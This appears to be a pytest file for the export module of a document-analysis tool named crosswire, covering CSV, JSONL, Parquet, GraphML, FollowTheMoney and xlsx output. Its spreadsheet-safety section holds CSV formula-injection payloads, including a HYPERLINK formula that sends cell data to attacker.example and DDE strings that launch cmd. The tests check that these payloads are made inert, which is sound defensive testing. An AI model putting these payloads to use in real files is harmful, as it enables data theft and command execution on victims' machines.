"""Exports of the example corpus: CSV, JSONL, Parquet, GraphML (Gephi) and FollowTheMoney (Aleph)."""
from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from click.testing import CliRunner

from crosswire import Crosswire, CrosswireError
from crosswire.report.export import RECORDS, export

EXAMPLES = Path(__file__).parent.parent / "examples"
G = "{http://graphml.graphdrawing.org/xmlns}"


@pytest.fixture(scope="module")
def cw(tmp_path_factory: pytest.TempPathFactory) -> Crosswire:
    engine = Crosswire(db=str(tmp_path_factory.mktemp("export") / "kb.db"))
    engine.ingest([str(EXAMPLES)])
    yield engine
    engine.close()


def counts(cw: Crosswire) -> dict[str, int]:
    return {name: cw.store.count(table) for name, (table, _) in RECORDS.items()}


def run(cw: Crosswire, *args: str):
    from crosswire.cli import cli
    from crosswire.cli_view import register

    register(cli)
    return CliRunner().invoke(cli, ["--db", cw.settings["db"], *args], obj={}, catch_exceptions=False)


def test_csv_has_every_record_type(cw: Crosswire, tmp_path: Path) -> None:
    r = run(cw, "export", "--format", "csv", "--out", str(tmp_path))
    assert r.exit_code == 0, r.output
    for name, n in counts(cw).items():
        with (tmp_path / f"{name}.csv").open(encoding="utf-8", newline="") as f:
            rows = list(csv.DictReader(f))
        assert len(rows) == n, name
    claims = list(csv.DictReader((tmp_path / "claims.csv").open(encoding="utf-8", newline="")))
    assert claims and {"doc_id", "value", "sentence", "start", "end", "source"} <= set(claims[0])
    assert counts(cw)["claims"] > 50 and counts(cw)["documents"] == 11


def test_jsonl_decodes_json_columns(cw: Crosswire, tmp_path: Path) -> None:
    export(cw, "jsonl", tmp_path)
    for name, n in counts(cw).items():
        lines = (tmp_path / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()
        assert len(lines) == n
    claim = json.loads((tmp_path / "claims.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert claim["record"] == "claim" and isinstance(claim["attribution"], list)
    doc = json.loads((tmp_path / "documents.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert isinstance(doc["authors"], list) and "raw" not in doc


def test_parquet(cw: Crosswire, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    export(cw, "parquet", tmp_path)
    for name, n in counts(cw).items():
        table = pq.read_table(tmp_path / f"{name}.parquet")
        assert table.num_rows == n, name
    schema = pq.read_schema(tmp_path / "claims.parquet")
    assert str(schema.field("value").type) == "double" and str(schema.field("start").type) == "int64"


def test_graphml_entity_network(cw: Crosswire, tmp_path: Path) -> None:
    out = tmp_path / "net.graphml"
    assert run(cw, "export", "--format", "graphml", "--out", str(out)).exit_code == 0
    root = ET.parse(out).getroot()
    nodes = root.findall(f"{G}graph/{G}node")
    edges = root.findall(f"{G}graph/{G}edge")
    assert len(nodes) > 20 and len(edges) > len(nodes)
    labels = {n.find(f"{G}data[@key='label']").text for n in nodes}
    assert {"Russia", "North Korea"} <= labels
    ids = {n.get("id") for n in nodes}
    assert all(e.get("source") in ids and e.get("target") in ids for e in edges)
    assert all(float(e.find(f"{G}data[@key='weight']").text) >= 1 for e in edges)


def test_followthemoney_entities(cw: Crosswire, tmp_path: Path) -> None:
    from followthemoney import model

    out = tmp_path / "kb.ftm.json"
    assert run(cw, "export", "--format", "ftm", "--out", str(out)).exit_code == 0
    proxies = [model.get_proxy(json.loads(line)) for line in out.read_text(encoding="utf-8").splitlines()]
    schemata = {p.schema.name for p in proxies}
    assert {"Article", "Person", "Organization", "Documentation", "Note"} <= schemata
    by_id = {p.id: p for p in proxies}
    assert len(by_id) == len(proxies)  # ids are unique
    articles = [p for p in proxies if p.schema.name == "Article"]
    assert len(articles) == 11 and all(a.get("bodyText") for a in articles)
    for p in proxies:  # every reference points to an entity in the export
        for prop in ("document", "entity", "proof"):
            if prop in p.schema.properties:
                assert all(ref in by_id for ref in p.get(prop)), (p.schema.name, prop)
    notes = [p for p in proxies if p.schema.name == "Note"]
    assert len(notes) == cw.store.count("claims") + cw.store.count("quotes")


def test_unknown_format(cw: Crosswire, tmp_path: Path) -> None:
    with pytest.raises(CrosswireError, match="csv, jsonl, parquet, graphml, ftm, xlsx"):
        export(cw, "docx", tmp_path)
    assert run(cw, "export", "--format", "docx", "--out", str(tmp_path)).exit_code == 2


# -- spreadsheet safety (issue 13: CSV formula injection) ----------------------------------------------
FORMULAS = {"title": '=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "publisher": "+cmd|' /C calc'!A0",
            "author": "@SUM(1+1)*cmd|' /C calc'!A0", "tab": "\t=1+1", "cr": "\r=1+1", "minus": "-2+3+cmd|' /C calc'!A0"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Crosswire:
    folder = tmp_path_factory.mktemp("csv_injection")
    line = {"id": "f1", "title": FORMULAS["title"], "publisher": FORMULAS["publisher"], "published": "2025-02-03",
            "text": f"{FORMULAS['minus']} said the port. About 3,000 containers were unloaded on Monday."}
    (folder / "f.jsonl").write_text(json.dumps(line) + "\n", encoding="utf-8")
    engine = Crosswire(db=str(folder / "kb.db"))
    engine.ingest([str(folder / "f.jsonl")], extract=False)
    conn = engine.store.conn  # cells a reader cannot produce: tab/CR starts, authors, a negative number
    conn.execute("UPDATE documents SET authors = ?, url = ?, external_id = ?, language = ?",
                 (json.dumps([FORMULAS["author"]]), FORMULAS["tab"], FORMULAS["cr"], "-12.5"))
    conn.execute("INSERT INTO rejections (source, reason, raw_id, raw, at) VALUES (?, ?, NULL, NULL, ?)",
                 (FORMULAS["author"], FORMULAS["minus"], "2025-02-03"))
    yield engine
    engine.close()


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_csv_cells_never_start_a_formula(hostile: Crosswire, tmp_path: Path) -> None:
    assert run(hostile, "export", "--format", "csv", "--out", str(tmp_path)).exit_code == 0
    cells = [c for name in RECORDS for c in _csv_cells(tmp_path / f"{name}.csv")]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-12.5"]
    assert not risky, risky
    assert "'" + FORMULAS["title"] in cells and "'" + FORMULAS["publisher"] in cells  # text kept, made inert
    assert "'" + FORMULAS["tab"] in cells and "'" + FORMULAS["cr"] in cells
    assert any(c.startswith("'" + FORMULAS["minus"]) for c in cells)
    assert "-12.5" in cells  # a plain number stays a number


def test_xlsx_cells_are_never_formulas(hostile: Crosswire, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    doc_id = hostile.documents()[0]["id"]
    text = hostile.document(doc_id)["text"]
    at = text.index("About 3,000")
    with hostile.store.transaction():
        hostile.store.save_extraction(doc_id, [{"record": "claim", "span": "About 3,000 containers", "value": 3000,
                                                "qualifier": "approx", "unit": "container", "measure": "materiel",
                                                "subject": "port", "sentence": text[at:], "start": at,
                                                "end": at + 22}], {"test": "1"})
    claim = hostile.store.ledger_claims().__next__()["id"]
    hostile.review_claim(claim, {"subject": FORMULAS["author"]}, reason=FORMULAS["minus"],
                         analyst=FORMULAS["publisher"])
    assert run(hostile, "export", "--format", "xlsx", "--out", str(tmp_path / "l.xlsx")).exit_code == 0
    wb = load_workbook(tmp_path / "l.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in (FORMULAS["title"], FORMULAS["publisher"], FORMULAS["author"], FORMULAS["minus"]):
        assert text in texts and texts[text].quotePrefix  # the text as it is, shown as text
    assert not any(isinstance(c.value, str) and c.value.startswith("'=") for c in cells)


def test_spreadsheet_safe_keeps_numbers() -> None:
    from crosswire.report.export import spreadsheet_safe

    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("-5") == "-5" and spreadsheet_safe("+3.5e2") == "+3.5e2"
    assert spreadsheet_safe("-2+3") == "'-2+3" and spreadsheet_safe("=1") == "'=1" and spreadsheet_safe("-") == "'-"
    assert spreadsheet_safe("1-2") == "1-2" and spreadsheet_safe("Kursk") == "Kursk"


def test_jsonl_and_parquet_keep_text_exactly(hostile: Crosswire, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    export(hostile, "jsonl", tmp_path)
    doc = json.loads((tmp_path / "documents.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert doc["title"] == FORMULAS["title"] and doc["authors"] == [FORMULAS["author"]]
    export(hostile, "parquet", tmp_path)
    table = pq.read_table(tmp_path / "documents.parquet").to_pylist()
    assert table[0]["title"] == FORMULAS["title"] and table[0]["url"] == FORMULAS["tab"]


def test_graphml_and_ftm_with_formula_text(hostile: Crosswire, tmp_path: Path) -> None:
    assert run(hostile, "export", "--format", "graphml", "--out", str(tmp_path / "n.graphml")).exit_code == 0
    ET.parse(tmp_path / "n.graphml")  # well-formed
    assert run(hostile, "export", "--format", "ftm", "--out", str(tmp_path / "k.ftm.json")).exit_code == 0
    lines = (tmp_path / "k.ftm.json").read_text(encoding="utf-8").splitlines()
    assert any(FORMULAS["title"] in json.loads(line).get("properties", {}).get("title", []) for line in lines)
